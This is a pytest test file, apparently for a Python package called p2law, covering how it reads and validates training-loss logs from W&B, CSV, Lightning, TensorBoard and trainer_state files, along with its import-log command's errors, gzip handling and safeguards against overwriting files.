def test_what_wandb_averaged_is_said(tmp_path):
    """
    A range beside the value, and groups of runs, betray averages; empty columns are no runs.
    """
    text = (
        "Step,Group: a - loss,Group: a - loss__MIN,Group: a - loss__MAX,b - loss\n"
        "100,2.5,2.4,2.6,\n200,2.4,2.4,2.4,\n"
    )
    log = logs.read_wandb(table(tmp_path, text), loss="train", tokens_per_step=1000)

    assert said(log, "1 loss is an average of several points")
    assert said(log, "a mean over the runs of a group")
    assert said(log, "without 'loss' and not read: b")
    assert said(log, "pass averaged=True")


def test_a_history_that_was_drawn_at_random_is_recognised(tmp_path):
    """
    run.history() gives 500 rows of a long run, and says nothing of it.
    """
    rows = "".join(f"{k},{3 - k / 1000},{k * 1000}\n" for k in range(1, 501))
    path = table(tmp_path, f"_step,val/loss,train/num_tokens\n{rows}")

    log = logs.read_wandb(path, loss="eval")

    assert said(log, "exactly 500 rows: run.history() draws so many")
    assert 500_000 == log.records["tokens"].iloc[-1]


def test_any_table_is_read_by_a_map_of_its_columns(tmp_path):
    """
    Factors for units, labels as they are written, other columns named.
    """
    text = "name\tBtok\tppl\trate %\tseed\tnote\na\t1\t12.5\t25\t007\tx\nb\t1\t11\t50\t008\ty\n"
    columns = {
        "run": "name", "tokens": ("Btok", 1e9), "loss": "ppl", "pruning_rate": ("rate %", 0.01),
        "seed": "seed",
    }  # fmt: skip

    log = logs.read_csv(table(tmp_path, text), columns, unit="perplexity")

    assert [1e9, 1e9] == log.records["tokens"].tolist()
    assert [0.25, 0.5] == log.records["pruning_rate"].tolist()
    assert ["007", "008"] == log.records["seed"].tolist()
    np.testing.assert_allclose(log.records["loss"], np.log([12.5, 11]))
    assert said(log, "cells separated by '\\t'")
    assert said(log, "tokens = Btok x 1000000000")
    assert said(log, "columns not read: note")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "is empty"),
        ("step,loss\n", "has a header and no rows"),
        ("step,loss\n100,2.5\n200\n", "line 3 has 1 cell, the header 2\n1 rows before it"),
        ("step,loss\n100,2.5\n200,low\n", "line 3: loss = 'low'\nwrite plain numbers"),
        ("step,loss\n100,2.5\n200,1_0\n", "line 3: loss = '1_0'"),
        ("step,loss,loss\n1,2,3\n", "column loss stands more than once"),
        ("step,l\n100,2.5\n", "nothing named 'loss'; it holds 'step', 'l'"),
        ("step,loss\n-5,2.5\n", "line 2 (step -5): step = -5"),
        ("step,loss\n100,-2.5\n", "turn the sign of log-likelihoods"),
        ("step,loss\n100,NaN\n", "no loss is a number"),
        ("step,loss\n100,\n", "all 1 cells of 'loss' are empty"),
    ],
    ids=str,
)
def test_damaged_tables_are_refused_by_line(tmp_path, text, words):
    """
    Lines are counted as an editor counts them.
    """
    error = refusal(
        logs.read_csv,
        table(tmp_path, text),
        {"step": "step", "loss": "loss"},
        tokens_per_step=1000,
        missing="leave out",
    )

    assert words in str(error)


@pytest.mark.parametrize(
    ("rest", "words"),
    [
        ("3,x\n4,2.7\n", "line 4: loss = 'x'"),
        ("y,2.8\n4,2.7\n", "line 4: step = 'y'"),
        ('3,"2.8\n4,2.7\n', "line 4 is no CSV: a quote is never closed"),
        ('3,"2.8"5\n4,2.7\n', "line 4 is no CSV"),
        ("3,2", "the last line (4) has no line end, and its loss = 2 is shorter than all before"),
        ("3,", "its loss = nothing is shorter than all before it"),
    ],
    ids=str,
)
def test_what_stands_before_any_damage_is_offered(tmp_path, rest, words):
    """
    A cell that is no number, a quote that swallows the rest, a number cut short at the end.
    """
    path = table(tmp_path, "step,loss\n1,3.0\n2,2.9\n" + rest)
    how = {"columns": {"step": "step", "loss": "loss"}, "tokens_per_step": 1000}

    error = refusal(logs.read_csv, path, **how)
    log = logs.read_csv(path, **how, partial=True)

    assert words in str(error)
    assert "2 rows before it can be read: partial=True takes what there is" in str(error)
    assert [3.0, 2.9] == log.records["loss"].tolist()
    assert said(log, "the 2 rows before it were taken (partial=True)")


LIGHTNING = """epoch,step,train_loss_epoch,train_loss_step,val_loss
0,49,,2.30,
0,99,,2.10,
0,99,,,2.05
0,99,2.20,,
1,149,,2.00,
1,199,,1.95,
1,199,,,1.94
1,199,1.97,,
"""
"""metrics.csv of Lightning: a row a call, so that several rows have one step."""


@pytest.mark.parametrize("how", [{}, {"missing": "leave out"}, {"repeats": "last"}], ids=str)
@pytest.mark.parametrize(
    ("loss", "steps", "losses"),
    [
        ("val_loss", [99, 199], [2.05, 1.94]),
        ("train_loss_epoch", [99, 199], [2.2, 1.97]),
        ("train_loss_step", [49, 99, 149, 199], [2.3, 2.1, 2.0, 1.95]),
    ],
)
def test_a_row_without_the_loss_takes_no_measurement_away(tmp_path, loss, steps, losses, how):
    """
    Whatever else was logged at its step, before or after; the rows are counted.
    """
    path = table(tmp_path, LIGHTNING, "metrics.csv")

    log = logs.read_csv(path, {"loss": loss}, tokens_per_step=1e5, **how)

    assert steps == log.records["step"].tolist()
    assert losses == log.records["loss"].tolist()
    assert said(log, f"{8 - len(steps)} of 8 rows have an empty '{loss}' and were left out: line")
    assert not said(log, "went back")


def test_a_loss_that_is_nan_is_no_empty_cell(tmp_path):
    """
    A run that diverged is refused, and beside empty cells too.
    """
    path = table(tmp_path, LIGHTNING.replace("1.94", "nan"), "metrics.csv")

    error = refusal(logs.read_csv, path, {"loss": "val_loss"}, tokens_per_step=1e5)

    assert ["line 8"] == error.rows
    assert "1 of 2 rows have loss that is no number" in str(error)


NANS = "_step,num_tokens,eval/loss\n1,1e6,2.5\n1,1e6,NaN\n2,2e6,NaN\n2,2e6,2.4\n3,3e6,NaN\n"


@pytest.mark.parametrize("repeats", ["refuse", "last"])
def test_what_is_no_number_takes_no_measurement_at_its_step_away(tmp_path, repeats):
    """
    A table in which NaN is written for what was not logged; each that was left out is counted.
    """
    path = table(tmp_path, NANS)

    error = refusal(logs.read_wandb, path, loss="eval")
    log = logs.read_wandb(path, loss="eval", missing="leave out", repeats=repeats)

    assert "missing='leave out' leaves out what is no number beside a loss" in str(error)
    assert [2.5, 2.4] == log.records["loss"].tolist()
    assert said(log, "2 rows left out: no number, beside a loss at the same step")
    assert said(log, "1 of 3 losses are no number and were left out: line 6")


def test_a_run_that_was_taken_up_again_and_failed_does_not_get_its_old_losses_back(tmp_path):
    """
    Steps went back: what was measured there before belonged to the part that was lost.
    """
    path = table(tmp_path, "step,loss\n1,2.5\n2,2.4\n3,2.3\n2,NaN\n3,NaN\n")
    how = {"tokens_per_step": 1e5, "missing": "leave out", "repeats": "last"}

    log = logs.read_csv(path, {}, **how)

    assert [2.5] == log.records["loss"].tolist()


@pytest.mark.parametrize("how", [{}, {"repeats": "last"}], ids=str)
def test_a_loss_without_a_step_is_refused_as_such(tmp_path, how):
    """
    Two missing steps are no repeated one.
    """
    text = "train/step,eval/loss,_step\n100,2.5,1\n,2.4,2\n,2.3,3\n"

    error = refusal(
        logs.read_wandb, table(tmp_path, text), loss="eval", tokens_per_step=1000, **how
    )

    assert ["line 3", "line 4"] == error.rows
    assert "2 of 3 rows have step that is missing" in str(error)
    assert "name a count that stands beside every loss: step=..." in str(error)


def test_empty_losses_of_a_history_of_wandb_are_counted(tmp_path):
    """
    `to_csv` leaves NaN empty: the account says where that may have been.
    """
    path = table(tmp_path, "_step,num_tokens,eval/loss\n1,1e6,2.5\n2,2e6,\n3,3e6,2.3\n")

    log = logs.read_wandb(path, loss="eval")

    assert [2.5, 2.3] == log.records["loss"].tolist()
    assert said(log, "1 of 3 rows have an empty 'eval/loss' and were left out: line 3; nothing")
    assert said(log, "unless pandas wrote the table")


RUNS = "run,num_tokens,loss\na,1e6,2.5\nb,1e6,\na,2e6,2.4\n"


@pytest.mark.parametrize(
    ("read", "asked"),
    [
        (logs.read_wandb, {"loss": "train"}),
        (logs.read_csv, {"columns": {"run": "run", "tokens": "num_tokens"}}),
    ],
)
def test_a_run_of_a_table_that_never_has_the_loss_is_named(tmp_path, read, asked):
    """
    It does not vanish with its rows.
    """
    log = read(table(tmp_path, RUNS), **asked)

    assert ["a", "a"] == log.records["run"].tolist()
    assert said(log, "without 'loss' and not read: b")


@pytest.mark.parametrize(
    ("read", "asked"),
    [
        (logs.read_wandb, {"loss": "train"}),
        (logs.read_csv, {"columns": {"run": "run", "tokens": "num_tokens"}}),
    ],
)
def test_a_loss_of_no_run_is_refused_by_line(tmp_path, read, asked):
    """
    An empty name is no run; where there is no loss, none is needed.
    """
    path = table(tmp_path, RUNS.replace("a,2e6", ",2e6").replace("b,", " ,"))

    error = refusal(read, path, **asked)

    assert ["line 4"] == error.rows
    assert "1 of 2 rows with a loss are of no run, their cell of 'run' is empty: line 4" in str(
        error
    )


def test_a_last_line_without_an_end_is_said(tmp_path):
    """
    It may be cut short; as long as the others, it is taken.
    """
    columns = {"step": "step", "loss": "loss"}
    path = table(tmp_path, "step,loss\n1,3.0\n2,2.9\n3,2.8")

    log = logs.read_csv(path, columns, tokens_per_step=1000)

    assert [3.0, 2.9, 2.8] == log.records["loss"].tolist()
    assert said(log, "the last line (4) has no line end: if the file was cut short, its loss = '2")


def test_json_in_place_of_a_table_is_named(tmp_path):
    """
    The reader of such a file is named, not its keys taken for columns.
    """
    path = state(tmp_path, evaluated([2.5]))

    for read, how in ((logs.read_wandb, {"loss": "eval"}), (logs.read_csv, {"columns": {}})):
        assert "is JSON, no table: read_trainer_state reads" in str(refusal(read, path, **how))


def test_damage_in_one_run_of_a_panel_leaves_the_others_whole(tmp_path):
    """
    Each run is read up to its own damage.
    """
    text = "train/global_step,a - eval/loss,b - eval/loss\n1,3.0,3.1\n2,x,3.0\n3,2.8,2.9\n"
    path = table(tmp_path, text)

    error = refusal(logs.read_wandb, path, loss="eval", tokens_per_step=1000)
    log = logs.read_wandb(path, loss="eval", tokens_per_step=1000, partial=True)

    assert "line 3: a - eval/loss = 'x'" in str(error)
    assert "1 rows before it can be read" in str(error)
    assert {"a": 1, "b": 3} == log.records.groupby("run").size().to_dict()
    assert said(log, "a: damaged: ")


def test_a_history_of_wandb_is_read_up_to_its_damage(tmp_path):
    """
    Whichever of its columns is damaged.
    """
    path = table(tmp_path, "_step,eval/loss\n1,3.0\n2,2.9\nz,2.8\n")

    error = refusal(logs.read_wandb, path, loss="eval", tokens_per_step=1000)
    log = logs.read_wandb(path, loss="eval", tokens_per_step=1000, partial=True)

    assert "line 4: _step = 'z'" in str(error)
    assert [3.0, 2.9] == log.records["loss"].tolist()


@pytest.mark.parametrize(
    ("columns", "words"),
    [
        ({"loss": "b"}, "columns needs 'tokens' or 'step'; the table has a, b"),
        ({}, "columns needs 'loss', and 'tokens' or 'step'; the table has a, b"),
        (
            {"loss": "b", "token": "a"},
            "needs 'tokens' or 'step' (did you mean 'tokens' by 'token'?)",
        ),
        ({"loss": "b", "step": ("a", "x")}, "columns['step'] has factor 'x' (str)"),
        ({"loss": "b", "step": ("a", math.inf)}, "columns['step'] has factor inf"),
        (["a", "b"], "columns maps names to columns"),
    ],
    ids=str,
)
def test_maps_of_columns_are_checked(tmp_path, columns, words):
    """
    By name.
    """
    path = table(tmp_path, "a,b\n1,2\n")

    assert words in str(refusal(logs.read_csv, path, columns, tokens_per_step=1000))


def test_a_compressed_table_that_is_cut_short_is_noticed(tmp_path):
    """
    What it still holds is offered on request.
    """
    rng = np.random.default_rng(0)
    rows = "".join(f"{k},{2 + x}\n" for k, x in enumerate(rng.random(2000), 1))
    path = tmp_path / "curve.csv.gz"
    path.write_bytes(gzip.compress(f"step,loss\n{rows}".encode())[:8000])
    how = {"columns": {"step": "step", "loss": "loss"}, "tokens_per_step": 1000}

    error = refusal(logs.read_csv, path, **how)
    log = logs.read_csv(path, **how, partial=True)

    assert "compressed and cut short" in str(error)
    assert 0 < len(log.records) < 2000


PACKED = [gzip.compress(b"Step,Value\n1,3.0\n2,2.9\n"), gzip.compress(b"3,2.8\n4,2.7\n")]
"""The members of a gzip that was appended to."""


@pytest.mark.parametrize("end", [b"", bytes(512)], ids=["plain", "filled up"])
def test_all_members_of_a_gzip_are_read(tmp_path, monkeypatch, end):
    """
    Appending to a gzip and joining several make such files; zeros may fill up the last block.
    """
    path = tmp_path / "curve.csv.gz"
    path.write_bytes(b"".join(PACKED) + end)
    for chunk in (1, 7, unpacking.CHUNK):
        monkeypatch.setattr(unpacking, "CHUNK", chunk)

        log = logs.read_csv(path, {"step": "Step", "loss": "Value"}, tokens_per_step=1000)

        assert [3.0, 2.9, 2.8, 2.7] == log.records["loss"].tolist()


def test_what_follows_the_last_member_of_a_gzip_is_not_passed_over(tmp_path):
    """
    Rubbish is a fault; so is a member whose checksum fails, of which no line is taken.
    """
    path = tmp_path / "curve.csv.gz"
    how = {"columns": {"step": "Step", "loss": "Value"}, "tokens_per_step": 1000}
    spoilt = bytearray(PACKED[1])
    spoilt[-8] ^= 1

    for damage in (b"garbage", bytes(spoilt)):
        path.write_bytes(PACKED[0] + damage)
        error = refusal(logs.read_csv, path, **how)
        log = logs.read_csv(path, **how, partial=True)

        assert f"is compressed and damaged from byte {len(PACKED[0])} on" in str(error)
        assert "2 rows before it can be read: partial=True" in str(error)
        assert [3.0, 2.9] == log.records["loss"].tolist()
    path.write_bytes(spoilt)
    assert "nothing can be read before it" in str(refusal(logs.read_csv, path, **how))


@pytest.mark.parametrize(
    "text",
    [
        "_step,tokens,train/tokens,eval/loss\n1,2e6,1e6,2.5\n",
        "_step,train/tokens,tokens,eval/loss\n1,1e6,2e6,2.5\n",
    ],
)
def test_the_very_name_goes_before_one_in_a_group_in_any_order(tmp_path, text):
    """
    Both count tokens by their names; the account says which was taken.
    """
    log = logs.read_wandb(table(tmp_path, text), loss="eval")

    assert [2e6] == log.records["tokens"].tolist()
    assert said(log, "tokens as logged in 'tokens'")


def test_tokens_of_a_trainer_are_the_same_whatever_the_seed_of_hashes(tmp_path):
    """
    An entry holds its own count of tokens and that of a group.
    """
    entries = [
        {**each, "tokens": 1e4 * each["step"], "train_tokens": 1e3 * each["step"]}
        for each in evaluated(LOSSES)
    ]
    code = (
        "import sys; from p2law import logs; "
        "print(logs.read_trainer_state(sys.argv[1], loss='eval').records['tokens'].tolist())"
    )
    command = [sys.executable, "-c", code, state(tmp_path, entries)]

    for seed in "0123":
        environment = os.environ | {"PYTHONHASHSEED": seed}
        told = subprocess.run(  # noqa: S603 - our own interpreter and package
            command, env=environment, capture_output=True, text=True, check=True
        )
        assert [1e6, 2e6, 3e6, 4e6] == json.loads(told.stdout)


def test_of_two_counts_of_tokens_in_groups_one_must_be_named(tmp_path):
    """
    Neither is more the count of tokens than the other, in whatever log they stand.
    """
    entry = {"step": 100, "train_tokens": 1e6, "perf/tokens": 1e5, "eval_loss": 2.5}
    history = table(tmp_path, "_step,train_tokens,perf/tokens,eval/loss\n100,1e6,1e5,2.5\n")
    words = "holds several counts of tokens: 'train_tokens', 'perf/tokens'; name one: tokens="

    for read, path in (
        (logs.read_trainer_state, state(tmp_path, [entry])),
        (logs.read_wandb, history),
    ):
        assert words in str(refusal(read, path, loss="eval"))
        log = read(path, loss="eval", tokens="train_tokens")
        assert [1e6] == log.records["tokens"].tolist()
        assert said(log, "tokens as logged in 'train_tokens'")


def test_of_two_tags_of_tokens_in_groups_one_must_be_named(tmp_path, monkeypatch):
    """
    As in all other logs.
    """
    tags = {"eval/loss": 2.5, "train/tokens": 1e6, "perf/tokens": 1e5}
    found = [events.Scalar(k, 100, tag, value) for k, (tag, value) in enumerate(tags.items())]
    monkeypatch.setattr(tensorboard, "scalars", lambda _: (found, ""))
    path = table(tmp_path, "", "events.out.tfevents.1")

    error = refusal(logs.read_tensorboard, path, loss="eval")
    log = logs.read_tensorboard(path, loss="eval", tokens="perf/tokens")

    assert "several counts of tokens: 'train/tokens', 'perf/tokens'; name one" in str(error)
    assert [1e5] == log.records["tokens"].tolist()
    assert said(log, "tokens as logged in 'perf/tokens'")


@pytest.mark.parametrize(
    "text",
    ["_step,train/step,eval/loss\n7,100,2.5\n", "train/step,_step,eval/loss\n100,7,2.5\n"],
)
def test_the_trainers_step_goes_before_that_of_wandb_in_any_order(tmp_path, text):
    """
    The account says which was taken; W&B's own must be asked for.
    """
    path = table(tmp_path, text)

    log = logs.read_wandb(path, loss="eval", tokens_per_step=1000)
    own = logs.read_wandb(path, loss="eval", tokens_per_step=1000, step="_step")

    assert [100_000] == log.records["tokens"].tolist()
    assert said(log, "steps are 'train/step'")
    assert not said(log, "counts calls of wandb.log")
    assert [7000] == own.records["tokens"].tolist()


def test_wandbs_step_is_named_as_such_where_it_is_counted_by_beside_tokens(tmp_path):
    """
    Tokens per step go before the count of tokens: then the steps matter.
    """
    path = table(tmp_path, "_step,num_tokens,eval/loss\n100,1e6,2.5\n")

    steps = logs.read_wandb(path, loss="eval", tokens_per_step=1000)
    tokens = logs.read_wandb(path, loss="eval")

    assert said(steps, "counts calls of wandb.log")
    assert not said(tokens, "counts calls of wandb.log")


def test_counts_of_one_step_are_not_taken_for_tokens_seen(tmp_path):
    """
    A column named tokens may count those of a batch.
    """
    path = table(tmp_path, "_step,eval/loss,tokens\n10,2.5,8192\n20,2.4,8192\n")

    error = refusal(logs.read_wandb, path, loss="eval")

    assert "have tokens that do not rise" in str(error)
    assert "this may count those of one step" in str(error)


# -- whatever comes ------------------------------------------------------------------

READERS = {
    "trainer_state.json": logs.read_trainer_state,
    "panel.csv": logs.read_wandb,
    "events.out.tfevents.1": logs.read_tensorboard,
}


def answers(read, path, **how):
    """Read whatever it is: records, or an error of ours."""
    try:
        log = read(path, **how)
    except P2LawError:
        return
    assert np.isfinite(log.records["loss"]).all()
    assert (log.records["loss"] > 0).all()


@pytest.mark.parametrize("name", READERS)
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(content=st.binary(max_size=300), partial=st.booleans())
def test_any_bytes_give_records_or_an_error_of_ours(tmp_path, name, content, partial):
    """
    No traceback from inside, whatever the file holds.
    """
    path = tmp_path / name
    path.write_bytes(content)

    answers(READERS[name], path, loss="eval", tokens_per_step=1000, partial=partial)


REAL_FILES = [
    (logs.read_trainer_state, "trainer/checkpoint-40/trainer_state.json"),
    (logs.read_wandb, "wandb/panel.csv"),
    (logs.read_wandb, "wandb/history.csv"),
    (logs.read_tensorboard, "tensorboard/tf2/events.out.tfevents.3"),
]


@pytest.mark.parametrize(("read", "name"), REAL_FILES, ids=[name for _, name in REAL_FILES])
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_damaged_real_log_gives_records_or_an_error_of_ours(tmp_path, read, name, data):
    """
    Cut anywhere, with any byte changed.
    """
    content = bytearray((REAL / name).read_bytes())
    end = data.draw(st.integers(1, len(content)))
    content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    path = tmp_path / Path(name).name
    path.write_bytes(content[:end])

    answers(read, path, loss="eval", tokens_per_step=1000, missing="leave out", partial=True)


json_values = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.text(max_size=5),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["step", "eval_loss", "grad_norm"]), inner, max_size=3)
    ),
    max_leaves=10,
)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(history=st.lists(json_values, max_size=5))
def test_any_json_as_a_history_gives_records_or_an_error_of_ours(tmp_path, history):
    """
    Entries of any shape.
    """
    answers(
        logs.read_trainer_state, state(tmp_path, history), loss="eval", tokens_per_step=1000,
        missing="leave out", partial=True,
    )  # fmt: skip


@given(
    losses=st.lists(st.floats(0.1, 10), min_size=1, max_size=40),
    unit=st.sampled_from(["nat", "bit", "perplexity"]),
)
def test_conversion_keeps_the_order_of_losses(losses, unit):
    """
    A lower loss is a lower loss in every unit.
    """
    logged = np.sort(np.array(losses)) + (1 if unit == "perplexity" else 0)

    assert (np.diff(in_nats(logged, Options("eval", unit=unit))) >= 0).all()


def test_checksums_are_those_of_castagnoli():
    """
    The check value that is published for CRC-32C, masked as record files store it.
    """
    code = 0xE3069283

    assert ((code >> 15 | code << 17) + 0xA282EAD8) & 0xFFFFFFFF == events._masked(b"123456789")


# -- the view and the command --------------------------------------------------------


def test_the_view_shows_runs_and_account():
    """
    As text and as HTML.
    """
    log = logs.read_trainer_state(REAL / "trainer", loss="eval", tokens_per_step=STEP)

    assert str(log).startswith("7 records of 1 run\n")
    assert "tokens = step x 128 tokens per step" in str(log)
    assert "tokens = step x 128 tokens per step" in log._repr_html_()


def test_records_of_a_log_are_fitted_as_they_are():
    """
    What a reader gives is what a fit takes.
    """
    log = logs.read_trainer_state(REAL / "trainer", loss="eval", tokens_per_step=STEP, drop_first=1)

    fit = p2law.fit(log.records, p2law.forms.token_power)

    assert 6 == len(fit.records)


@pytest.fixture
def command(tmp_path, capsys):
    """Run `p2law import-log` in this process: exit code, what it printed, complaints, file."""

    def run(*words):
        output = tmp_path / "records.csv"
        code = cli.main(["import-log", *map(str, words), "-o", str(output)])
        out, err = capsys.readouterr()
        return code, out, err, output

    return run


def test_the_command_writes_records_and_says_what_it_did(command):
    """
    The kind is guessed and said; the base loss comes from another log.
    """
    code, out, err, output = command(
        REAL / "trainer", "--loss", "eval", "--tokens-per-step", STEP, "--thin", 3,
        "--params", 12000, "--pruning-rate", 0.25, "--model", "1.10", "--run", "cut",
        "--base-log", REAL / "trainer", "--base-at", "first",
    )  # fmt: skip
    records = p2law.load(output)

    assert (0, "") == (code, err)
    assert "taken for trainer (--kind)" in out
    assert "base_loss 3.47837019 from run trainer, the first loss (0 tokens)" in " ".join(
        out.split()
    )
    assert f"written to {output}" in out
    assert {"cut"} == set(records["run"])
    assert {12000.0} == set(records["params"])
    assert {"1.10"} == set(records["model"])
    assert 3 == len(records)


@pytest.mark.parametrize(
    ("path", "more", "kind"),
    [
        ("wandb/panel.csv", (), "wandb"),
        ("wandb/history.csv", (), "wandb"),
        ("tensorboard/one", (), "tensorboard"),
        ("trainer/checkpoint-40/trainer_state.json", (), "trainer"),
        ("table.csv", ("--column", "step=Iteration", "loss=CE", "rank=k*1e-3"), "csv"),
    ],
)
def test_the_command_guesses_the_kind_of_log(command, tmp_path, path, more, kind):
    """
    By name, by what a folder holds, by the header; JSON says the same as text.
    """
    place = REAL / path
    if kind == "csv":
        place = table(tmp_path, "Iteration,CE,k\n100,2.5,3\n200,2.4,4\n", path)
    code, out, err, output = command(
        place, "--loss", "eval", "--tokens-per-step", STEP, "--json", *more
    )
    told = json.loads(out)

    assert (0, "") == (code, err)
    assert f"taken for {kind} (--kind)" in " ".join(told["notes"])
    assert len(p2law.load(output)) == sum(told["runs"].values())


def test_a_kind_is_told_of_a_path_as_readers_take_it(tmp_path):
    """
    As text or as a path; what is none, or is not there, is said as the readers say it.
    """
    path = table(tmp_path, "step,loss\n1,2\n")

    assert "csv" == logs.kind_of(path) == logs.kind_of(str(path))
    assert "a log is a file or a folder, got 3 (int)" == str(refusal(logs.kind_of, 3))
    assert "none.csv: no such file or folder" == str(refusal(logs.kind_of, "none.csv"))


def test_an_empty_name_is_not_the_current_folder(tmp_path, monkeypatch, capsys):
    """
    Of any reader, and on the command line: a variable that was never set is refused.
    """
    state(tmp_path, evaluated(LOSSES))
    monkeypatch.chdir(tmp_path)
    words = "cannot look up '': the name is empty; the current folder is '.'"
    how = {"loss": "eval", "tokens_per_step": 1000}
    command = ("import-log", "-o", "new.csv", "--loss", "eval", "--tokens-per-step", "1000")

    assert 4 == len(logs.read_trainer_state(".", **how).records)
    assert words == str(refusal(logs.read_trainer_state, "", **how))
    assert words == str(refusal(logs.read_tensorboard, "", **how))
    assert words == str(refusal(logs.kind_of, ""))
    for more in ([""], [".", "--base-log", ""]):
        assert 2 == cli.main([*command, *more])
        assert words in capsys.readouterr().err
    assert not Path("new.csv").exists()


def test_several_logs_and_facts_by_run_on_the_command_line(command):
    """
    RUN=VALUE gives each run its own.
    """
    code, _, err, output = command(
        REAL / "trainer", REAL / "wandb" / "panel.csv", "--loss", "eval",
        "--tokens-per-step", STEP, "--run", "a", "b=1", "--pruning-rate", "a=0.25", "b=1=0.5",
        "--fact", "lr=1e-2",
    )  # fmt: skip
    records = p2law.load(output)

    assert (0, "") == (code, err)
    assert {"a": 0.25, "b=1": 0.5} == dict(
        zip(records["run"], records["pruning_rate"], strict=True)
    )
    assert {0.01} == set(records["lr"])


def test_columns_of_the_very_names_need_no_map(command, tmp_path):
    """
    A table with a column step and a column loss says by itself what they are; tokens go before.
    """
    steps = table(tmp_path, "step,loss\n10,3.2\n20,3.0\n", "steps.csv")
    tokens = table(tmp_path, "step,tokens,ppl\n10,1e6,9.5\n20,2e6,9.0\n", "tokens.csv")

    code, _, err, output = command(steps, "--tokens-per-step", 1000)
    mapped = logs.read_csv(tokens, {"loss": "ppl"}, unit="perplexity").records

    assert (0, "") == (code, err)
    assert [10000.0, 20000.0] == p2law.load(output)["tokens"].tolist()
    assert [1e6, 2e6] == mapped["tokens"].tolist()


def test_losses_unlike_nats_are_told_when_they_are_imported(command, tmp_path):
    """
    A perplexity that was not called one, and a base loss that is one beside losses that are not.
    """
    path = table(tmp_path, "tokens,loss\n1000000,12.5\n2000000,11.0\n", "ppl.csv")
    wrong = ("--params", 1e9, "--pruning-rate", 0.3, "--base-loss")

    _, losses, _, _ = command(path, *wrong, 2.3)
    _, base, _, _ = command(path, *wrong, 10, "--unit", "perplexity")
    _, right, _, _ = command(path, *wrong, 2.3, "--unit", "perplexity", "--json")

    assert "! even the lowest loss of 1 of 1 model size is 11, above 5 nat per token" in losses
    assert "! base_loss is up to 10, above 5 nat per token" in base
    assert "! 2 of 2 losses are below the base loss, by up to 7.6" in base
    assert [] == json.loads(right)["trouble"]


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (("--tokens-per-step", "1000"), "say which loss is meant: --loss eval, train"),
        (("--loss", "eval"), "On the command line: --tokens-per-step N"),
        (("--loss", "eval", "--tokens-per-step", "1"), "On the command line: --accept tokens"),
        (("--loss", "eval", "--run", "a", "b"), "--run names 2 runs for 1 logs"),
        (("--loss", "eval", "--fact", "lr"), "--fact takes NAME=VALUE, each name once; got 'lr'"),
        (("--loss", "eval", "--tokens-per-step", "9", "--fact", "seed=1", "--seed", "2"), "twice"),
        (("--kind", "csv"), "columns needs 'loss'"),
    ],
    ids=str,
)
def test_the_command_refuses_with_one_message(command, words, message):
    """
    Exit code 2, nothing written.
    """
    source = REAL / ("wandb/panel.csv" if "csv" in words else "trainer")

    code, out, err, output = command(source, *words)

    assert (2, "") == (code, out)
    assert err.startswith("p2law import-log: ")
    assert message in err
    assert not output.exists()


@pytest.mark.parametrize("source", ["log.csv", "--base-log", "run", "link.csv"])
def test_a_log_is_never_written_over(tmp_path, capsys, source):
    """
    Neither the log itself, nor that before pruning, nor one in a folder, nor by a link.
    """
    log = table(tmp_path, "step,loss\n1,3.0\n2,2.9\n", "log.csv")
    base = table(tmp_path, "step,loss\n0,2.5\n", "base.csv")
    inside = state(tmp_path / "run", evaluated([2.5]))
    (tmp_path / "link.csv").symlink_to(log)
    output = {"--base-log": base, "run": inside}.get(source, tmp_path / source)
    before = output.read_bytes()
    words = [tmp_path / "run", "--loss", "eval"] if source == "run" else [log]
    words += ["--base-log", base] if source == "--base-log" else []
    words += [] if source == "run" else ["--column", "step=step", "loss=loss"]

    words = ["import-log", *words, "--tokens-per-step", 1000, "-o", output]
    code = cli.main(list(map(str, words)))

    assert 2 == code
    assert "is read, and would be lost; name another file to write" in capsys.readouterr().err
    assert before == output.read_bytes()


def test_no_account_is_written_over_a_log(tmp_path, capsys):
    """
    A log may have the very name that the account of its records would get.
    """
    path = table(tmp_path, "tokens,loss\n1e6,3.0\n2e6,2.9\n", "q.csv.account.txt")
    before = path.read_bytes()

    words = ["import-log", path, "--kind", "csv", "-o", tmp_path / "q.csv"]
    assert 2 == cli.main(list(map(str, words)))

    assert "account of -o" in capsys.readouterr().err
    assert before == path.read_bytes()
    assert not (tmp_path / "q.csv").exists()


def test_a_failure_to_write_leaves_what_stood_there(command, monkeypatch):
    """
    A full disk leaves the former records, and no draft beside them.
    """
    words = (REAL / "trainer", "--loss", "eval", "--tokens-per-step", STEP)
    _, _, _, output = command(*words)
    before = output.read_bytes()

    def full(path, content):
        with path.open("wb") as file:
            file.write(content[:10])
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("pathlib.Path.write_bytes", full)
    code, _, err, _ = command(*words, "--thin", 3)

    assert 2 == code
    assert "No space left on device" in err
    assert before == output.read_bytes()
    assert {output.name, f"{output.name}.account.txt"} == {
        each.name for each in output.parent.iterdir()
    }


def test_the_account_stands_beside_the_records(command):
    """
    A table holds no sentences: what was smoothed and left out is kept beside it.
    """
    words = (REAL / "trainer", "--loss", "eval", "--tokens-per-step", STEP, "--smooth", 0.5)

    _, out, _, output = command(*words)
    account = output.with_name("records.csv.account.txt")

    assert f"this account to {account}" in out
    assert "loss smoothed at" in account.read_text()
    assert account.read_text().strip() in out


@pytest.mark.parametrize("name", ["q.parquet", "q.jsonl", "q"])
def test_records_are_written_under_a_name_that_says_what_they_are(tmp_path, capsys, name):
    """
    Under another, `p2law fit` would read them as what they are not.
    """
    words = ["import-log", REAL / "trainer", "--loss", "eval", "--tokens-per-step", STEP]

    code = cli.main([*map(str, words), "-o", str(tmp_path / name)])

    assert 2 == code
    assert "records are written as CSV; end the name in .csv" in capsys.readouterr().err
    assert [] == list(tmp_path.iterdir())


def test_compressed_records_read_back(tmp_path):
    """
    A name in .csv.gz gives the same records, compressed.
    """
    words = ["import-log", REAL / "trainer", "--loss", "eval", "--tokens-per-step", STEP]
    for name in ("q.csv", "q.csv.gz"):
        assert 0 == cli.main([*map(str, words), "-o", str(tmp_path / name)])

    plain, packed = (p2law.load(tmp_path / name) for name in ("q.csv", "q.csv.gz"))
